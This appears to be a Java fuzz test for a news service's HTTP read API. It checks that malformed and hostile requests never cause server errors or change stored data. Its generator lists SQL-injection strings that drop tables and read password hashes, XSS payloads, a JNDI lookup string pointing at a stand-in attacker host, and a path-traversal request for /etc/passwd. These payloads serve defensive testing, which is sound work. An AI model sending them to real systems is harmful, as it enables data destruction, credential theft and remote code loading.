package io.newsfold.gateway;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import io.newsfold.contracts.ArticleIngested;
import io.newsfold.contracts.EventJson;
import io.newsfold.contracts.StoryAssigned;
import io.newsfold.contracts.Topics;
import io.newsfold.infra.TestInfra;
import io.newsfold.infra.testing.NewsfoldInfraResource;
import io.newsfold.infra.testing.TopicProbe;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.sql.DriverManager;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.EnumMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.UUID;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.Test;

/**
 * Throws seeded random, malformed and hostile requests at every read route: odd query values and cursors, injection
 * strings, NUL and invalid UTF-8 in percent-encoding, huge values, wrong types, odd paths and methods. Every answer
 * must be a clear 2xx, 3xx redirect or 4xx, never a 5xx, and the read model must be the same afterwards. A few
 * hundred requests by default; {@code -Dnewsfold.fuzz.inputs=20000} for a long run, {@code -Dnewsfold.fuzz.seed=N}
 * to replay one.
 */
@QuarkusTest
@QuarkusTestResource(NewsfoldInfraResource.class)
class HostileInputFuzzTest {

    private static final int INPUTS = Integer.getInteger("newsfold.fuzz.inputs", 300);
    private static final long SEED = Long.getLong("newsfold.fuzz.seed", 20260302L);
    private static final Duration SLOW = Duration.ofSeconds(10);

    enum Kind {
        VALID, SQL_INJECTION, SCRIPT_INJECTION, NUL_AND_CONTROL, INVALID_UTF8, HUGE_VALUE, WRONG_TYPES,
        FORGED_CURSOR, ODD_PATH, ODD_METHOD
    }

    /** One request; {@code mustSucceed}: a valid read, answered 200. */
    record Input(Kind kind, String method, String pathAndQuery, boolean mustSucceed) {
    }

    @TestHTTPResource("/")
    URI root;

    @Test
    void everyHostileReadGetsAClearAnswerAndChangesNothing() throws Exception {
        String run = UUID.randomUUID().toString().substring(0, 8);
        String storyId = "s-fuzz-" + run;
        seed(run, storyId);
        Map<String, String> before = quietDigest();
        Hostile hostile = new Hostile(new Random(SEED), storyId);
        Map<Kind, Integer> tried = new EnumMap<>(Kind.class);
        Map<Integer, Integer> statuses = new TreeMap<>();
        long started = System.nanoTime();

        for (int n = 0; n < INPUTS; n++) {
            Input input = hostile.next();
            tried.merge(input.kind(), 1, Integer::sum);
            String[] answer = send(input);
            int status = Integer.parseInt(answer[0]);
            statuses.merge(status, 1, Integer::sum);
            String what = "input " + n + " (" + input.kind() + ", seed " + SEED + ") " + input.method() + " /"
                    + preview(input.pathAndQuery());
            if (status >= 500 || status < 200) {
                fail(what + " was answered " + status + ": " + preview(answer[1]));
            }
            if (input.mustSucceed() && status != 200) {
                fail(what + " is a valid read but was answered " + status + ": " + preview(answer[1]));
            }
            if (status >= 400 && answer[1].contains("{\"")) {
                assertTrue(answer[1].contains("\"reason\"") || status == 404 || status == 405,
                        what + ": a problem without a reason: " + preview(answer[1]));
            }
        }
        double seconds = (System.nanoTime() - started) / 1e9;

        assertEquals(before, digest(), "reads must not change the read model");
        System.out.printf("HostileInputFuzzTest: seed %d, %d requests in %.1f s by kind %s, answers %s%n",
                SEED, INPUTS, seconds, tried, statuses);
    }

    /** One story with one article, so that valid reads and cursors have something to find. */
    private static void seed(String run, String storyId) {
        String id = "fz-" + run;
        String bootstrap = TestInfra.get().kafkaBootstrapServers();
        TopicProbe.produce(bootstrap, Topics.ARTICLES_INGESTED.name(), id, EventJson.write(new ArticleIngested(
                ArticleIngested.SCHEMA_VERSION, id + ":v1", id, 1, "Fuzz Wire", null, "Fuzz " + run,
                "Ferries returned to the harbour " + run, Instant.parse("2026-02-01T00:00:00Z"), Instant.now(),
                "h" + id, List.of(), null, "en")));
        TopicProbe.produce(bootstrap, Topics.STORY_ASSIGNMENTS.name(), storyId, EventJson.write(new StoryAssigned(
                StoryAssigned.SCHEMA_VERSION, id + ":a", storyId, id, 1, 1, true, "test",
                Instant.parse("2026-02-01T00:00:00Z"), null, null, null, StoryAssigned.ORIGIN, List.of())));
        Awaitility.await().atMost(Duration.ofSeconds(30)).until(() -> {
            try (var c = connection(); var s = c.prepareStatement(
                    "SELECT count(*) FROM gateway.articles WHERE article_id = ? AND story_id = ?")) {
                s.setString(1, id);
                s.setString(2, storyId);
                try (var rs = s.executeQuery()) {
                    rs.next();
                    return rs.getLong(1) == 1;
                }
            }
        });
    }

    /**
     * Status and body over a raw socket, so that request targets no URI class accepts (a stray %, say) can be sent
     * as they are; a live stream that opens is closed once its status is known.
     */
    private String[] send(Input input) throws Exception {
        long start = System.nanoTime();
        try (var socket = new Socket(root.getHost(), root.getPort())) {
            socket.setSoTimeout(30_000);
            socket.getOutputStream().write((input.method() + " /" + input.pathAndQuery() + " HTTP/1.1\r\nHost: "
                    + root.getHost() + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                    .getBytes(StandardCharsets.UTF_8));
            var in = new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.UTF_8));
            String statusLine = in.readLine();
            boolean stream = false;
            for (String header = in.readLine(); header != null && !header.isEmpty(); header = in.readLine()) {
                stream |= header.toLowerCase(Locale.ROOT).startsWith("content-type: text/event-stream");
            }
            StringBuilder body = new StringBuilder();
            if (!stream) {
                char[] buffer = new char[8192];
                for (int n = in.read(buffer); n >= 0; n = in.read(buffer)) {
                    body.append(buffer, 0, n);
                }
            }
            Duration took = Duration.ofNanos(System.nanoTime() - start);
            assertTrue(took.compareTo(SLOW) < 0, input.kind() + " took " + took);
            assertTrue(statusLine != null && statusLine.startsWith("HTTP/1."), "no status line: " + statusLine);
            return new String[] {statusLine.substring(9, 12), body.toString()};
        }
    }

    private static String preview(String s) {
        return s.length() <= 300 ? s : s.substring(0, 300) + "…(" + s.length() + ")";
    }

    /** The digest once two readings a second apart agree, so that projections still running are not counted. */
    private static Map<String, String> quietDigest() throws Exception {
        Map<String, String> last = digest();
        for (int i = 0; i < 30; i++) {
            Thread.sleep(1000);
            Map<String, String> now = digest();
            if (now.equals(last)) {
                return now;
            }
            last = now;
        }
        return last;
    }

    /** table → row count and digest of every row, for each table of the read model. */
    private static Map<String, String> digest() throws Exception {
        Map<String, String> tables = new TreeMap<>();
        try (var c = connection()) {
            List<String> names = new ArrayList<>();
            try (var rs = c.createStatement().executeQuery("SELECT table_name FROM information_schema.tables"
                    + " WHERE table_schema = 'gateway' AND table_type = 'BASE TABLE'")) {
                while (rs.next()) {
                    names.add(rs.getString(1));
                }
            }
            for (String table : names) {
                try (var rs = c.createStatement().executeQuery("SELECT count(*), md5(coalesce(string_agg(t::text,"
                        + " '|' ORDER BY t::text), '')) FROM gateway.\"" + table + "\" t")) {
                    rs.next();
                    tables.put(table, rs.getLong(1) + ":" + rs.getString(2));
                }
            }
        }
        return tables;
    }

    private static java.sql.Connection connection() throws Exception {
        return DriverManager.getConnection(TestInfra.get().jdbcUrl(), TestInfra.get().dbUser(),
                TestInfra.get().dbPassword());
    }

    /** The generator: every choice comes from one seeded Random, so a seed replays a run exactly. */
    static final class Hostile {

        static final String[] SQL = {
            "'; DROP TABLE gateway.articles; --", "\" OR 1=1 --", "1; DELETE FROM gateway.stories",
            "' UNION SELECT usename, passwd FROM pg_shadow --", "x') OR ('1'='1", "$$; DROP SCHEMA gateway; $$",
            "1' AND pg_sleep(20) IS NULL --", "%' OR '%'='", "\\'; TRUNCATE gateway.feed; --", "a:b:c'--"};
        static final String[] SCRIPT = {
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
            "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://evil.example/a}"};
        static final String[] WEB_SEARCH = {
            "\"unterminated", "-", "or", "-\"\"", "!!!", "a & b | c", "::", "(", "*:*", "\"\" or -"};
        static final String[] CONTROL = {"%00", "%01", "%1F", "%7F", "a%00b", "%0D%0A", "%E2%80%AE", "%EF%BB%BF"};
        static final String[] BAD_UTF8 = {"%C3%28", "%FF", "%ED%A0%80", "%C0%AF", "%E2%82", "%F8%88%80", "%80"};
        static final String[] PARAMS = {
            "q", "entity", "source", "excludeSource", "language", "from", "to", "storyId", "skipDuplicates",
            "limit", "cursor", "sort", "prefix", "after"};
        static final String[] ROUTES = {"v1/articles", "v1/stories", "v1/entities", "v1/stream"};

        private final Random random;
        private final String storyId;

        Hostile(Random random, String storyId) {
            this.random = random;
            this.storyId = storyId;
        }

        Input next() {
            Kind kind = Kind.values()[random.nextInt(Kind.values().length)];
            return switch (kind) {
                case VALID -> valid();
                case SQL_INJECTION -> hostileValue(kind, enc(pick(SQL)));
                case SCRIPT_INJECTION -> hostileValue(kind, enc(pick(SCRIPT)));
                case NUL_AND_CONTROL -> hostileValue(kind, "ab" + pick(CONTROL) + enc(pick(WEB_SEARCH)));
                case INVALID_UTF8 -> hostileValue(kind, "ab" + pick(BAD_UTF8) + "cd");
                case HUGE_VALUE -> hostileValue(kind, "ab" + enc(pick("x", "é", "'", " ").repeat(
                        pick(1_000, 3_000, 10_000))));
                case WRONG_TYPES -> wrongTypes();
                case FORGED_CURSOR -> forgedCursor();
                case ODD_PATH -> oddPath();
                case ODD_METHOD -> new Input(kind, pick("POST", "PUT", "DELETE", "PATCH"), pick(ROUTES)
                        + (random.nextBoolean() ? "" : "/" + enc(pick(SQL))), false);
            };
        }

        private Input valid() {
            return switch (random.nextInt(6)) {
                case 0 -> new Input(Kind.VALID, "GET", "v1/stories/" + storyId, true);
                case 1 -> new Input(Kind.VALID, "GET", "v1/stories?limit=" + (1 + random.nextInt(100))
                        + "&sort=" + pick("recent", "size"), true);
                case 2 -> new Input(Kind.VALID, "GET", "v1/articles?q=" + enc(pick(WEB_SEARCH) + " ferries")
                        + "&skipDuplicates=" + random.nextBoolean() + "&from=2020-01-01&to=2030-01-01", true);
                case 3 -> new Input(Kind.VALID, "GET", "v1/entities?prefix=" + enc(pick("ha", "Mi", "é'", "%_"))
                        + "&limit=" + (1 + random.nextInt(50)), true);
                case 4 -> new Input(Kind.VALID, "GET", "v1/articles?storyId=" + storyId + "&language=en", true);
                default -> new Input(Kind.VALID, "GET", "v1/stream?after=" + random.nextInt(1_000_000)
                        + "&storyId=" + storyId, true);
            };
        }

        /** A hostile (already percent-encoded) value in a random parameter or path segment of a random route. */
        private Input hostileValue(Kind kind, String value) {
            return switch (random.nextInt(5)) {
                case 0 -> new Input(kind, "GET", pick("v1/stories/", "v1/articles/") + value, false);
                case 1 -> new Input(kind, "GET", "v1/entities?prefix=" + value, false);
                default -> {
                    StringBuilder q = new StringBuilder(pick(ROUTES)).append('?');
                    int params = 1 + random.nextInt(4);
                    for (int i = 0; i < params; i++) {
                        q.append(i == 0 ? "" : "&").append(pick(PARAMS)).append('=')
                                .append(random.nextInt(3) == 0 ? "ok" : value);
                    }
                    yield new Input(kind, "GET", q.toString(), false);
                }
            };
        }

        private Input wrongTypes() {
            String value = pick("abc", "-1", "0", "1e3", "99999999999999999999", "1.5", "", "true", "null",
                    "2026-13-45", "2026-02-30T25:61:00Z", "+999999999-12-31", "yesterday", "2026-01-01T00:00:00",
                    "[]", "{}", "NaN");
            String param = pick("limit", "from", "to", "skipDuplicates", "sort", "after", "cursor", "prefix");
            String route = pick(ROUTES);
            return new Input(Kind.WRONG_TYPES, "GET", route + "?" + param + "=" + enc(value)
                    + (random.nextBoolean() ? "&" + param + "=" + enc(value) : ""), false);
        }

        /** Cursors that decode, but to nonsense: wrong sort, bad keys, injection in the id, or not base64. */
        private Input forgedCursor() {
            String raw = switch (random.nextInt(6)) {
                case 0 -> "recent|" + pick("garbage", "", "2026-02-30T00:00:00Z", "-1") + "|" + pick(SQL);
                case 1 -> "size|" + pick("x", "1e9", "99999999999999999999", "-5", "") + "|id";
                case 2 -> pick("recent", "size") + "|" + Instant.now() + "|" + pick(SQL) + "\u0000";
                case 3 -> pick("", "|", "||", "recent||", "size|||||");
                case 4 -> new String(randomBytes(random.nextInt(60)), StandardCharsets.ISO_8859_1);
                default -> "recent|" + Instant.now() + "|" + pick(SCRIPT);
            };
            String cursor = random.nextInt(8) == 0 ? enc(pick(SQL))
                    : Base64.getUrlEncoder().withoutPadding().encodeToString(raw.getBytes(StandardCharsets.UTF_8));
            return new Input(Kind.FORGED_CURSOR, "GET", pick("v1/stories", "v1/articles") + "?cursor=" + cursor
                    + (random.nextBoolean() ? "&sort=" + pick("recent", "size", "x") : ""), false);
        }

        private Input oddPath() {
            return new Input(Kind.ODD_PATH, "GET", pick(
                    "v1/stories/%2e%2e%2f%2e%2e%2fq%2fhealth", "v1/stories//", "v1/articles/" + enc("../../etc/passwd"),
                    "v1/stories/" + enc(pick(SQL)) + "/more", "v1/entities/x", "v1/stream/x", "v1/",
                    "v1/stories;jsessionid=x", "v1/articles/%", "v1/articles/%zz", "v1/stories/a%2Fb",
                    "v1/stories/" + "é".repeat(200), "v1/stories?" + "a=1&".repeat(500), "v1/entities?prefix"),
                    false);
        }

        private byte[] randomBytes(int n) {
            byte[] b = new byte[n];
            random.nextBytes(b);
            return b;
        }

        private static String enc(String s) {
            return java.net.URLEncoder.encode(s, StandardCharsets.UTF_8);
        }

        @SafeVarargs
        private <T> T pick(T... options) {
            return options[random.nextInt(options.length)];
        }
    }
}
